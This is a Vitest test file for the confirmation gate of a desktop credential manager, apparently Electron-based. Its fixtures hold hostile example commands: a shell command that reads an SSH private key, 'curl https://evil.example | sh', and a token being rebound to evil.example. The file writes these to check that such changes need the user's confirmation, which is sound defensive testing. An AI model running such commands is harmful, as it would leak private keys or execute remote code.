import { X509Certificate } from 'node:crypto';
import { beforeAll, describe, expect, it, vi } from 'vitest';
import { createRevealGate } from '../../../../electron/core/reveal/reveal-gate.ts';
import type { ChangeRequest, CurrentCredential } from '../../../../electron/main/change-request.ts';
import { MESSAGES } from '../../../../shared/human-messages.ts';
import { makeTlsMaterial, type TlsMaterial } from '../../../fixtures/proxy-upstream.ts';
import { setupIpc, type GateOptions } from './ipc-harness.ts';

const EXISTING: Record<string, CurrentCredential> = {
  gh: { hosts: ['https://api.github.com'], exec: null },
  ci: { hosts: ['https://ci.example.com'], exec: { command: 'gh auth token' } },
  once: { hosts: ['https://api.example.com'], exec: null, policy: { methods: ['GET'], maxUses: 1 } },
};

const setup = (gate: GateOptions) => setupIpc(EXISTING, gate);

const execInput = { kind: 'exec', name: 'sh', hosts: ['https://api.example.com'], command: "/bin/sh -c 'cat ~/.ssh/id_ed25519'" };
const refused = { ok: false, error: { code: 'ERR_CONFIRMATION_REQUIRED', message: expect.stringContaining('not confirmed') } };

describe('IPC confirmation gate (E5)', () => {
  it('E5 adding an exec credential without a dialog adapter fails ERR_CONFIRMATION_REQUIRED and never reaches the service', async () => {
    const { call, mutations } = setup({});
    expect(await call('add', execInput)).toEqual(refused);
    expect(mutations()).toEqual([]);
  });

  it('E5 a declined or failing dialog refuses; an accepted one passes the exact command and hosts on', async () => {
    const seen: ChangeRequest[] = [];
    for (const answer of [async () => false, async () => Promise.reject(new Error('no display'))]) {
      const { call, mutations } = setup({ confirm: { confirmChange: (r) => (seen.push(r), answer()) } });
      expect(await call('add', execInput)).toEqual(refused);
      expect(mutations()).toEqual([]);
    }
    const { call, mutations } = setup({ confirm: { confirmChange: async (r) => (seen.push(r), true) } });
    expect(await call('add', execInput)).toEqual({ ok: true, value: { method: 'add' } });
    expect(mutations()).toHaveLength(1);
    expect(seen.at(-1)).toEqual({
      action: 'add',
      name: 'sh',
      command: { next: execInput.command, previous: null },
      hosts: { added: ['https://api.example.com'], removed: [], kept: [] },
    });
  });

  it('E5 rebinding a token to another host needs confirmation and the dialog gets the canonical diff', async () => {
    const confirmChange = vi.fn(async () => false);
    const { call, mutations } = setup({ confirm: { confirmChange } });
    expect(await call('update', 'gh', { hosts: ['https://API.github.com/', 'https://evil.example'] })).toEqual(refused);
    expect(mutations()).toEqual([]);
    expect(confirmChange).toHaveBeenCalledWith({
      action: 'update',
      name: 'gh',
      hosts: { added: ['https://evil.example'], removed: [], kept: ['https://api.github.com'] },
    });
  });

  it('E5 changing an exec command needs confirmation showing the old and new command', async () => {
    const confirmChange = vi.fn(async () => false);
    const { call, mutations } = setup({ confirm: { confirmChange } });
    expect(await call('update', 'ci', { command: 'curl https://evil.example | sh' })).toEqual(refused);
    expect(mutations()).toEqual([]);
    expect(confirmChange).toHaveBeenCalledWith({ action: 'update', name: 'ci', command: { next: 'curl https://evil.example | sh', previous: 'gh auth token' } });
  });

  it('E5 changes that neither run a command nor move a token pass without a dialog', async () => {
    const confirmChange = vi.fn(async () => false);
    const { call, mutations } = setup({ confirm: { confirmChange } });
    expect(await call('add', { kind: 'static', name: 'pasted', hosts: ['https://api.example.com'], token: 'tok_1234' })).toMatchObject({ ok: true });
    expect(await call('update', 'gh', { authPolicy: 'reject' })).toMatchObject({ ok: true });
    expect(await call('update', 'gh', { hosts: ['https://api.github.com'] })).toMatchObject({ ok: true });
    expect(await call('update', 'ci', { command: 'gh auth token' })).toMatchObject({ ok: true });
    expect(await call('refresh', 'ci')).toMatchObject({ ok: true });
    expect(confirmChange).not.toHaveBeenCalled();
    expect(mutations()).toHaveLength(5);
  });

  it('E5 an unknown credential is left to the service to report (no dialog for nothing)', async () => {
    const confirmChange = vi.fn(async () => true);
    const { call } = setup({ confirm: { confirmChange } });
    expect(await call('update', 'missing', { hosts: ['https://evil.example'] })).toMatchObject({ ok: true });
    expect(confirmChange).not.toHaveBeenCalled();
  });

  it('copyToken passes the "Ask before revealing a token" gate, naming the window; a denial is ERR_DENIED', async () => {
    const approveReveal = vi.fn(async () => 'deny' as const);
    const reveal = createRevealGate({ approver: { approveReveal }, enabled: () => true });
    const { call, mutations } = setup({ reveal });
    expect(await call('copyToken', 'gh')).toMatchObject({ ok: false, error: { code: 'ERR_DENIED' } });
    expect(mutations()).toEqual([]);
    expect(approveReveal).toHaveBeenCalledWith({ method: 'copyToken', name: 'gh', caller: { description: 'the Tokenwarden window', key: 'ipc:window' } });
  });
});

describe('IPC confirmation gate: upstream CA changes (E5)', () => {
  let ca1: TlsMaterial;
  let ca2: TlsMaterial;
  const cert = (m: TlsMaterial) => ({ subject: new X509Certificate(m.caPem).subject.split('\n').find((l) => l.startsWith('CN='))!.slice(3), fingerprint: new X509Certificate(m.caPem).fingerprint256 });

  beforeAll(async () => {
    [ca1, ca2] = await Promise.all([makeTlsMaterial(['127.0.0.1']), makeTlsMaterial(['127.0.0.1'])]);
    // As the service's `get` reports it: the CA's certificates, never its PEM.
    EXISTING.corp = { hosts: ['https://internal.example'], exec: null, upstreamCa: [cert(ca1)] };
  });

  it('E5 trusting a different CA for a credential\'s hosts needs confirmation, and the dialog gets old and new fingerprints', async () => {
    const confirmChange = vi.fn(async () => false);
    const { call, mutations } = setup({ confirm: { confirmChange } });
    expect(await call('update', 'corp', { upstreamCa: ca2.caPem })).toEqual({
      ok: false,
      error: { code: 'ERR_CONFIRMATION_REQUIRED', message: 'Trusting a different certificate authority was not confirmed in the system dialog, so nothing changed.' },
    });
    expect(mutations()).toEqual([]);
    expect(confirmChange).toHaveBeenCalledWith({ action: 'update', name: 'corp', upstreamCa: { next: [cert(ca2)], previous: [cert(ca1)] } });
  });

  it('E5 adding a CA where there was none, and removing one, need confirmation too', async () => {
    const confirmChange = vi.fn(async (_request: ChangeRequest) => true);
    const { call, mutations } = setup({ confirm: { confirmChange } });
    expect(await call('update', 'gh', { upstreamCa: ca2.caPem })).toMatchObject({ ok: true });
    expect(await call('update', 'corp', { upstreamCa: null })).toMatchObject({ ok: true });
    expect(confirmChange.mock.calls.map(([r]) => r.upstreamCa)).toEqual([
      { next: [cert(ca2)], previous: null },
      { next: null, previous: [cert(ca1)] },
    ]);
    expect(mutations()).toHaveLength(2);
  });

  it('E5 an exec add that brings a CA names it in the same dialog', async () => {
    const confirmChange = vi.fn(async () => false);
    const { call } = setup({ confirm: { confirmChange } });
    await call('add', { ...execInput, upstreamCa: ca1.caPem });
    expect(confirmChange).toHaveBeenCalledWith(expect.objectContaining({ action: 'add', upstreamCa: { next: [cert(ca1)], previous: null } }));
  });

  it('E5 the same CA again, or a patch without one, passes without a dialog', async () => {
    const confirmChange = vi.fn(async () => false);
    const { call, mutations } = setup({ confirm: { confirmChange } });
    expect(await call('update', 'corp', { upstreamCa: ca1.caPem })).toMatchObject({ ok: true });
    expect(await call('update', 'gh', { upstreamCa: null })).toMatchObject({ ok: true });
    expect(await call('update', 'corp', { authPolicy: 'reject' })).toMatchObject({ ok: true });
    expect(confirmChange).not.toHaveBeenCalled();
    expect(mutations()).toHaveLength(3);
  });

  it('E5 a CA that does not parse is refused before any dialog (ERR_INVALID_INPUT), so nothing is confirmed for nothing', async () => {
    const confirmChange = vi.fn(async () => true);
    const { call, mutations } = setup({ confirm: { confirmChange } });
    const broken = '-----BEGIN CERTIFICATE-----\nbm90IGEgY2VydGlmaWNhdGU=\n-----END CERTIFICATE-----\n';
    expect(await call('update', 'corp', { upstreamCa: broken })).toEqual({ ok: false, error: { code: 'ERR_INVALID_INPUT', message: MESSAGES.caNotParsed(1, 1) } });
    expect(await call('update', 'corp', { upstreamCa: 'not a certificate' })).toMatchObject({ ok: false, error: { code: 'ERR_INVALID_INPUT', message: MESSAGES.caNotPem } });
    expect(confirmChange).not.toHaveBeenCalled();
    expect(mutations()).toEqual([]);
  });
});

describe('IPC confirmation gate: policy changes (E5)', () => {
  it('E5 clearing or lifting a policy limit needs confirmation, and the dialog names each lifted limit', async () => {
    const seen: ChangeRequest[] = [];
    const { call, mutations } = setup({ confirm: { confirmChange: async (r) => (seen.push(r), false) } });
    expect(await call('setPolicy', 'once', null)).toEqual({ ok: false, error: { code: 'ERR_CONFIRMATION_REQUIRED', message: expect.stringContaining('Loosening this access policy') } });
    expect(await call('setPolicy', 'once', { methods: ['GET', 'DELETE'], maxUses: 1 })).toMatchObject({ ok: false, error: { code: 'ERR_CONFIRMATION_REQUIRED' } });
    expect(mutations()).toEqual([]);
    expect(seen.map((r) => r.policy)).toEqual([
      { loosened: ['Any method (was GET)', 'Unlimited uses (was 1)'], before: 'methods GET · 1 use', after: 'no limits' },
      { loosened: ['Also methods DELETE'], before: 'methods GET · 1 use', after: 'methods GET,DELETE · 1 use' },
    ]);
  });

  it('E5 a confirmed loosening reaches the service; tightening, or a first policy, needs no dialog', async () => {
    const confirmChange = vi.fn(async () => true);
    const { call, mutations } = setup({ confirm: { confirmChange } });
    expect(await call('setPolicy', 'once', null)).toMatchObject({ ok: true });
    expect(confirmChange).toHaveBeenCalledTimes(1);
    expect(await call('setPolicy', 'once', { methods: ['GET'], maxUses: 1, rate: '1/s' })).toMatchObject({ ok: true });
    expect(await call('setPolicy', 'gh', { maxUses: 10 })).toMatchObject({ ok: true });
    expect(confirmChange).toHaveBeenCalledTimes(1);
    expect(mutations().map((c) => c.method)).toEqual(['setPolicy', 'setPolicy', 'setPolicy']);
  });

  it('E5 when the current state cannot be read (anything but "not found"), the change is refused, not waved through', async () => {
    const confirmChange = vi.fn(async () => true);
    const { call, mutations } = setup({ confirm: { confirmChange } });
    expect(await call('setPolicy', 'damaged', null)).toMatchObject({ ok: false, error: { code: 'ERR_CORRUPT' } });
    expect(await call('update', 'damaged', { hosts: ['https://evil.example'] })).toMatchObject({ ok: false, error: { code: 'ERR_CORRUPT' } });
    expect(confirmChange).not.toHaveBeenCalled();
    expect(mutations()).toEqual([]);
  });
});
